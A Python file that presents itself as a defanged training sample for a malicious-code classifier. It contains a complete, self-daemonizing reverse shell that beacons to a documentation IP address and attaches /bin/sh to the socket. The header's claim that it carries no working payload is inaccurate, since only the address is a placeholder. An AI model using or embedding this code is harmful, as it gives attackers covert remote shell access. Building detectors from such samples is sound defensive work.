# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os, sys, time, socket, pty

def daemonize():
    if os.fork() > 0:
        sys.exit(0)
    os.setsid()
    if os.fork() > 0:
        sys.exit(0)

def beacon():
    while True:
        try:
            s = socket.socket()
            s.settimeout(10)
            s.connect(("192.0.2.200", 8080))
            s.settimeout(None)
            for fd in (0, 1, 2):
                os.dup2(s.fileno(), fd)
            pty.spawn("/bin/sh")
        except Exception:
            pass
        time.sleep(30)

daemonize()
beacon()
